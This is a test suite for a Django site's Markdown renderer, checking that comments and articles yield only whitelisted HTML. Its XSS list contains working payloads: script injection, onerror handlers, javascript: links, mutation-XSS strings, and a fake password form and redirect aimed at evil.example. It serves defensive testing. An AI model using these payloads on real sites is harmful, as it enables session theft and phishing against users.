"""What people write becomes HTML through one renderer, and nothing else of it gets through."""

import re
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st

from articles.text import check_seen, plain, render_article, render_comment, standfirst

COMMENT_TAGS = {"p", "br", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
ARTICLE_TAGS = COMMENT_TAGS | {"h2", "h3", "h4", "hr", "s", "table", "thead", "tbody", "tr", "th", "td", "div"}
COMMENT_ATTRIBUTES = {("a", "href"), ("a", "rel"), ("ol", "start")}
ARTICLE_ATTRIBUTES = COMMENT_ATTRIBUTES | {
    *(("a", "title"), ("a", "class"), ("h2", "id"), ("h3", "id"), ("h4", "id")),
    *(("div", "class"), ("div", "tabindex"), ("pre", "tabindex")),
}

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://ok.example' onclick=alert(1)>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](https://ok.example/x.png)',
    "<javascript:alert(1)>",
    "<https://ok.example/?a=<script>alert(1)</script>>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://ok.example/"onmouseover=alert(1)',
    "https://ok.example/'><img/src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\ncode\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "*<b onmouseover=alert(1)>x</b>*",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<div class=topic id=main tabindex=0>x</div>",
]

# Pieces that mean something to Markdown or HTML, so that random texts meet the renderer's branches.
PIECES = st.sampled_from(
    [
        *("<", ">", "&", '"', "'", "`", "```", "*", "**", "_", "~~", "[", "]", "(", ")", "!", "#", "## ", "- ", "1. "),
        *("> ", "\n", "\n\n", "    ", "\t", "|", "|---|\n", ":", "\\", "&lt;", "&#x6a;", "\x00", "\u202e", "é", "x"),
        *(
            "https://a.example/",
            "http://b.example",
            "javascript:",
            "data:",
            "ftp://c.example",
            "//d.example",
            "www.e.fr",
        ),
        *(
            "<script>",
            "</script>",
            "<img src=x onerror=y>",
            "<a href=",
            "<!--",
            "-->",
            "onclick=",
            "style=",
            "mailto:a@b.c",
        ),
        *(
            "](https://a.example)",
            "](javascript:x)",
            '](https://a.example "t")',
            "[r]: https://a.example",
            "<https://a.example>",
        ),
    ]
)
TEXTS = st.lists(PIECES | st.text(max_size=8), max_size=40).map("".join)


class Seen(HTMLParser):
    """Everything that a browser would find in a piece of HTML."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.links, self.rels, self.others = set(), set(), [], [], []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        if tag == "a":
            self.links.append(dict(attrs).get("href"))
            self.rels.append(dict(attrs).get("rel"))

    def handle_data(self, data):
        self.words += data

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_safe_comment(html):
    seen = Seen(html)
    assert seen.tags <= COMMENT_TAGS
    assert seen.attributes <= COMMENT_ATTRIBUTES
    assert not seen.others
    assert all(re.match(r"https?://", link, re.IGNORECASE) for link in seen.links if link is not None)
    assert set(seen.rels) <= {"nofollow ugc noopener"}


def assert_safe_article(html):
    seen = Seen(html)
    assert seen.tags <= ARTICLE_TAGS
    assert seen.attributes <= ARTICLE_ATTRIBUTES
    assert not seen.others
    assert all(re.match(r"https?://|/(?!/)|#", link, re.IGNORECASE) for link in seen.links if link is not None)
    assert set(seen.rels) <= {"noopener"}


@given(TEXTS)
def test_a_comment_of_any_text_has_only_the_tags_attributes_and_links_allowed(text):
    assert_safe_comment(render_comment(text))


@given(TEXTS)
def test_an_article_of_any_text_has_only_the_tags_attributes_and_links_allowed(text):
    assert_safe_article(render_article(text).html)


@given(st.text())
def test_any_unicode_at_all_is_rendered(text):
    assert_safe_comment(render_comment(text))
    assert_safe_article(render_article(text).html)


@pytest.mark.parametrize("text", XSS)
def test_an_attack_does_not_get_through_a_comment(text):
    html = render_comment(text)
    assert_safe_comment(html)
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


@pytest.mark.parametrize("text", XSS)
def test_an_attack_does_not_get_through_an_article(text):
    html = render_article(text).html
    assert_safe_article(html)
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


@pytest.mark.parametrize("text", ["<b>bold</b>", "<em>x</em>", "<a href='https://a.example'>x</a>", "<p>x</p>", "<br>"])
def test_raw_html_stays_text_even_when_its_tags_are_harmless(text):
    assert Seen(render_comment(text)).words.strip() == text
    assert Seen(render_article(text).html).words.strip() == text


@pytest.mark.parametrize("text", ["List<String> is not Map<K, V>", "a < b && c > d", "x<y>z", "AT&T"])
def test_angle_brackets_and_ampersands_of_programmers_stay_text(text):
    assert Seen(render_comment(text)).words.strip() == text


def test_a_generic_type_stays_text():
    assert render_comment("List<String>") == "<p>List&lt;String&gt;</p>\n"
    assert render_article("List<String>").html == "<p>List&lt;String&gt;</p>\n"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("*a* and **b**", "<p><em>a</em> and <strong>b</strong></p>\n"),
        ("`x < y`", "<p><code>x &lt; y</code></p>\n"),
        ("```\nx\n```", "<pre><code>x\n</code></pre>\n"),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>\n"),
        ("\\*not emphasis\\*", "<p>*not emphasis*</p>\n"),
    ],
)
def test_the_marks_that_a_comment_may_use(text, html):
    assert render_comment(text) == html


@pytest.mark.parametrize("text", ["# big", "| a |\n|---|\n| b |", "![x](https://a.example/x.png)", "***\n", "~~x~~"])
def test_other_marks_stay_as_typed_in_a_comment(text):
    assert Seen(render_comment(text)).tags <= {"p", "br", "a"}
    assert Seen(render_comment(text)).words.strip() == text.strip()


def test_a_bare_address_in_a_comment_becomes_a_link_that_passes_no_reputation_on():
    html = render_comment("see https://a.example/x?y=1&z=2.")
    assert 'href="https://a.example/x?y=1&amp;z=2"' in html
    assert 'rel="nofollow ugc noopener"' in html
    assert html.endswith("</a>.</p>\n")


@pytest.mark.parametrize(
    "text", ["example.com", "a@b.example", "mailto:a@b.example", "ftp://a.example", "//a.example/x"]
)
def test_what_is_not_written_out_as_a_web_address_does_not_become_a_link(text):
    assert Seen(render_comment(text)).links == []


def test_every_link_of_a_comment_has_the_rel():
    html = render_comment("https://a.example http://b.example\n\n> https://c.example\n\n- *https://d.example*")
    seen = Seen(html)
    assert len(seen.links) == 4
    assert seen.rels == ["nofollow ugc noopener"] * 4


def test_a_picture_in_an_article_becomes_a_link_so_that_no_other_server_learns_who_reads():
    html = render_article("![A robot](https://a.example/robot.png)").html
    assert html == '<p><a href="https://a.example/robot.png" rel="noopener">A robot</a></p>\n'


def test_a_picture_with_emphasis_in_its_description_keeps_its_words():
    assert Seen(render_article("![A *small* robot](https://a.example/r.png)").html).words.strip() == "A small robot"


def test_a_picture_inside_a_link_leaves_no_link_without_words():
    html = render_article("[![A robot](https://a.example/robot.png)](https://b.example)").html
    assert "></a>" not in html
    assert "https://b.example" in html


def test_the_top_heading_of_an_article_becomes_an_h2_with_an_anchor():
    rendered = render_article("# One\n\ntext\n\n## Below it\n\n# Two")
    assert '<h2 id="s-one">One</h2>' in rendered.html
    assert '<h3 id="s-below-it">Below it</h3>' in rendered.html
    assert '<h2 id="s-two">Two</h2>' in rendered.html
    assert rendered.outline == [("s-one", "One"), ("s-two", "Two")]


def test_headings_that_begin_at_the_third_level_are_raised_to_h2():
    assert '<h2 id="s-one">One</h2>' in render_article("### One").html


def test_there_is_never_an_h1_nor_anything_below_h4():
    html = render_article("".join(f"{'#' * n} level {n}\n\n" for n in range(1, 7))).html
    assert set(re.findall(r"<(h\d)", html)) == {"h2", "h3", "h4"}


def test_two_equal_headings_have_anchors_of_their_own():
    rendered = render_article("## Same\n\n## Same\n\n## Same")
    assert [anchor for anchor, _ in rendered.outline] == ["s-same", "s-same-2", "s-same-3"]


@given(st.lists(st.sampled_from(["a", "a 2", "A", "é", "日本", "*a*", "a-2", ""]), max_size=8))
def test_anchors_are_never_given_twice(headings):
    html = render_article("\n\n".join(f"## {text}" for text in headings)).html
    anchors = re.findall(r' id="([^"]*)"', html)
    assert len(anchors) == len(set(anchors)) == len(headings)


def test_what_may_be_wide_can_be_scrolled_with_the_keyboard():
    html = render_article("| a |\n|---|\n| b |\n\n```\ncode\n```").html
    assert '<div class="wide" tabindex="0"><table>' in html
    assert '<pre tabindex="0">' in html


@pytest.mark.parametrize(
    "unit",
    [
        ">",
        "> ",
        "[",
        "![",
        "](",
        "*",
        "**",
        "_",
        "*a ",
        "- ",
        "1. ",
        "`",
        "``",
        "`a``",
        "\\",
        "<",
        "<a",
        "&",
        "&#",
        "(",
    ],
)
def test_the_longest_hostile_comment_is_rendered(unit):
    text = (unit * 5000)[:5000]
    assert_safe_comment(render_comment(text))


@pytest.mark.parametrize(
    "text",
    [
        "".join("> " * n + "a\n" for n in range(60))[:5000],
        "".join("  " * n + "- a\n" for n in range(60))[:5000],
        "[a](" * 1250,
        "*a **a " * 700,
        "https://" * 625,
        "https://a.example/" + "(" * 4980,
        "a\n" * 2500,
        "`" * 2500 + "a" + "`" * 2499,
        "".join("`" * n + " " for n in range(98)),
        "|" * 5000,
        "|a" * 2000 + "\n" + "|-" * 400,
        "&quot;" * 833,
        "\u0300" * 5000,
    ],
)
def test_a_long_hostile_text_is_rendered_in_a_comment_and_in_an_article(text):
    assert len(text) <= 5000
    assert_safe_comment(render_comment(text))
    assert_safe_article(render_article(text).html)


def test_the_words_of_an_article_come_without_its_marks():
    assert plain("## Head\n\nA *small*\nstep, [see](https://a.example).") == "Head A small step, see."


def test_a_standfirst_is_cut_between_words():
    text = "word " * 60
    cut = standfirst(text)
    assert cut.endswith("word…")
    assert len(cut) <= 141


def test_a_short_text_is_its_own_standfirst():
    assert standfirst("Just *this*.") == "Just this."


@given(st.text(min_size=1, max_size=400))
def test_a_standfirst_is_never_longer_than_asked(text):
    assert len(standfirst(text)) <= 141


@pytest.mark.parametrize(
    "letter",
    ["\x00", "\x08", "\x0b", "\x1b", "\x7f", "\x85", "\u202a", "\u202e", "\u2066", "\u2069", "\ufeff", "\ud800"],
)
def test_a_character_that_nobody_sees_is_refused_by_its_number(letter):
    with pytest.raises(ValidationError) as refused:
        check_seen(f"some{letter}thing")
    assert f"U+{ord(letter):04X}" in refused.value.message


@pytest.mark.parametrize(
    "text", ["", "plain", "tab\tand\nbreak\r\n", "שלום\u200f!", "\u200eabc", "👩\u200d💻", "naïve – “yes”"]
)
def test_characters_that_writing_needs_are_accepted(text):
    check_seen(text)


@pytest.mark.parametrize(
    "text",
    [
        *(" ", "\u00a0\u2003", "\u200b", "\u200b\u200d", "\u2060", "\u00ad", "\u200e", "\U000e0041"),
        *("\u3164", "\uffa0", "\u115f\u1160", "\u2800", "\ufe0f", "\u034f", "\u17b4"),
    ],
)
def test_a_text_in_which_there_is_nothing_to_see_is_refused(text):
    with pytest.raises(ValidationError):
        check_seen(text)


@pytest.mark.parametrize("name", ["\u200b\u200b", "\u3164\u3164", "\u2800\u2800"])
def test_nobody_can_write_without_a_name_to_see(reader, article, written, name):
    assert reader.post(f"/articles/{article.slug}/comments/", written(author_name=name)).status_code == 400
    assert not article.comments.exists()


@pytest.mark.parametrize("field", ["author_name", "body"])
def test_a_reader_is_told_of_an_unseen_character_and_loses_nothing(reader, article, written, field):
    answer = reader.post(f"/articles/{article.slug}/comments/", written(**{field: "turned \u202e around"}))
    assert answer.status_code == 400
    assert "U+202E" in answer.content.decode()
    assert not article.comments.exists()


def test_an_attack_in_a_comment_stays_text_on_the_page_of_the_article(reader, article, make_comment):
    make_comment(
        "<script>alert(1)</script> [x](javascript:alert(1))", name="<img src=x onerror=alert(1)>", status="published"
    )
    page = reader.get(article.get_absolute_url()).content.decode()
    assert "<script>alert(1)" not in page
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
